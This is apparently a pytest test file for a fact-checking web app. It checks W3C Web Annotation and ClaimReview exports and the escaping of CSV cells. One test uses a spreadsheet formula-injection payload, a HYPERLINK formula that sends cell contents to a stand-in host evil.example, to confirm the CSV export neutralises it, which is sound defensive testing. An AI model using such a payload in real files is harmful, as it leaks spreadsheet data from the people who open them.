"""ClaimReview and W3C Web Annotation exports, checked against Google's list and the W3C suite."""

import csv
import io
from urllib.parse import urlsplit

import pytest

from claims import services
from claims.api.exports import _cell
from claims.models import Topic
from tests.conformance.web_annotation import checker
from tests.factories import make_claim, make_entity, make_quote, publish

pytestmark = pytest.mark.django_db


def test_the_checker_catches_a_broken_annotation():
    bad = {"type": "Annotation", "target": {"source": "x", "selector": {"type": "Nope"}}}
    assert checker.must_failures(bad)


def test_quote_annotation_passes_every_w3c_must_and_points_at_the_quote(anonymous, ledger):
    assertion = ledger["assertions"][0]
    response = anonymous.get(f"/api/quotes/{assertion.quote_id}/annotation/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/ld+json"
    annotation = response.json()
    assert checker.must_failures(annotation) == []
    text = anonymous.get(annotation["target"]["source"]).json()["text"]
    assert checker.anchoring(annotation, text) == []
    types = {s["type"] for s in annotation["target"]["selector"]}
    assert types == {"TextQuoteSelector", "TextPositionSelector"}
    assert annotation["body"][0]["value"] == (
        "Supports: How much did Musk give? (value: 44,000,000 USD exact)"
    )
    assert annotation["body"][1]["source"].endswith("/api/claims/musk-gave/")


def test_annotation_of_an_unlinked_quote_is_valid_too(reviewer_client, ledger):
    quote = make_quote(ledger["sources"][0], "不到4500万美元", speaker=make_entity())
    annotation = reviewer_client.get(f"/api/quotes/{quote.pk}/annotation/").json()
    assert "body" not in annotation and annotation["motivation"] == "highlighting"
    assert checker.must_failures(annotation) == []
    assert checker.anchoring(annotation, ledger["sources"][0].text) == []


def test_the_checker_catches_a_served_annotation_spoilt_by_hand(anonymous, ledger):
    annotation = anonymous.get(f"/api/quotes/{ledger['assertions'][0].quote_id}/annotation/").json()
    text = anonymous.get(annotation["target"]["source"]).json()["text"]
    selectors = {s["type"]: s for s in annotation["target"]["selector"]}
    quote, position = selectors["TextQuoteSelector"], selectors["TextPositionSelector"]
    position["start"] += 1
    position["end"] += 1
    assert checker.anchoring(annotation, text)[0].endswith(f"not {quote['exact']!r}")
    del annotation["@context"]
    position["start"] = -1
    assert [r.file for r in checker.failed_musts(annotation)] == [
        "annotations/3.1-annotationContextValidated.json",
        "specificResource/4.2-selectorValidIfPresent.json",
        "specificResource/4.2-TextDataPositionSelectorValid.json",
    ]


def test_every_seed_quote_annotation_anchors_and_a_sample_passes_the_w3c_musts(anonymous, seeded):
    url, checked = "/api/quotes/", 0
    while url:
        page = anonymous.get(url).json()
        for quote in page["results"]:
            annotation = anonymous.get(f"/api/quotes/{quote['id']}/annotation/").json()
            source = anonymous.get(f"/api/sources/{quote['source']}/").json()
            assert checker.anchoring(annotation, source["text"]) == [], quote["id"]
            # The W3C check is slow and the shape does not vary with the data: sample it.
            if checked % 10 == 0:
                assert checker.must_failures(annotation) == [], quote["id"]
            checked += 1
        url = page["next"]
    assert checked > 0


def test_annotation_is_also_served_as_plain_json(anonymous, ledger):
    url = f"/api/quotes/{ledger['assertions'][0].quote_id}/annotation/"
    response = anonymous.get(url, HTTP_ACCEPT="application/json")
    assert response.status_code == 200 and response["Content-Type"] == "application/json"


# ClaimReview

GOOGLE_REQUIRED = {"claimReviewed", "reviewRating", "url", "author", "datePublished"}


def test_claimreview_carries_googles_required_properties(anonymous, ledger):
    khosla = make_entity(slug="vinod-khosla", name="Vinod Khosla")
    ledger["assertions"][0].quote.speaker = khosla
    ledger["assertions"][0].quote.save()
    response = anonymous.get("/api/claims/musk-gave/claimreview/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/ld+json"
    review = response.json()
    assert review["@context"] == "https://schema.org" and review["@type"] == "ClaimReview"
    assert set(review) >= GOOGLE_REQUIRED
    assert review["claimReviewed"] == "How much did Musk give?"
    assert review["url"].endswith("/en/claims/musk-gave/")
    assert review["author"]["@type"] == "Organization" and review["author"]["name"]
    assert review["datePublished"] == ledger["claim"].published_at.date().isoformat()
    assert review["reviewRating"] == {
        "@type": "Rating",
        "ratingValue": 3,
        "bestRating": 5,
        "worstRating": 1,
        "alternateName": "Mixed",
    }
    item = review["itemReviewed"]
    assert item["@type"] == "Claim"
    # the dated source is the first appearance; its quote's speaker made the claim
    assert item["firstAppearance"]["url"] == "https://news.example/a"
    assert item["datePublished"] == "2024-03-06"
    assert item["author"] == {"@type": "Person", "name": "Vinod Khosla"}
    assert len(item["appearance"]) == 2


@pytest.mark.parametrize("accept_language", ["zh-Hans", "zh-Hant", "en"])
def test_claimreview_links_the_english_pages_whatever_the_client_accepts(
    anonymous, ledger, accept_language
):
    """The API's JSON is English (inLanguage "en"): its links go to the English pages."""
    response = anonymous.get(
        "/api/claims/musk-gave/claimreview/", headers={"Accept-Language": accept_language}
    )
    review = response.json()
    assert review["inLanguage"] == "en"
    assert urlsplit(review["url"]).path == "/en/claims/musk-gave/"
    assert urlsplit(review["author"]["url"]).path == "/en/"
    assert "/zh-han" not in response.content.decode()


def test_claimreview_of_an_unproven_claim_has_a_rating_name_only(anonymous, editor, ledger):
    services.claim_set_verdict(
        claim=ledger["claim"], verdict="unproven", rationale="Nobody knows.", user=editor
    )
    rating = anonymous.get("/api/claims/musk-gave/claimreview/").json()["reviewRating"]
    assert rating == {"@type": "Rating", "alternateName": "Unproven"}


def test_no_claimreview_without_a_published_verdict(reviewer_client, ledger):
    response = reviewer_client.get("/api/claims/draft-claim/claimreview/")
    assert response.status_code == 404
    assert "no published verdict" in response.json()["detail"]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_csv_cells_that_would_run_as_formulas_are_escaped(anonymous, db, start):
    formula = f'{start}HYPERLINK("https://evil.example/?"&A1,"click")'
    topic = Topic.objects.create(slug="-topic", name="Topic")
    claim = make_claim(
        slug=f"formula-{ord(start)}",
        kind="text",
        unit="",
        statement_en=formula,
        statement_zh=f"{start}1+1",
        topics=[topic],
    )
    publish(claim)
    response = anonymous.get("/api/claims/?format=csv")
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["statement_en"] == f"'{formula}"
    assert row["statement_zh"] == f"'{start}1+1"
    assert row["topics"] == "'-topic"
    assert (row["slug"], row["open_conflict_count"]) == (claim.slug, "0")


def test_a_carriage_return_at_the_start_of_a_cell_is_escaped():
    # Stored texts never hold one (domain.text.normalize_text); the cell rule covers it anyway.
    assert _cell("\r=1+1") == "'\r=1+1" and _cell(["-a", "b"]) == "'-a;b" and _cell(-1) == "-1"
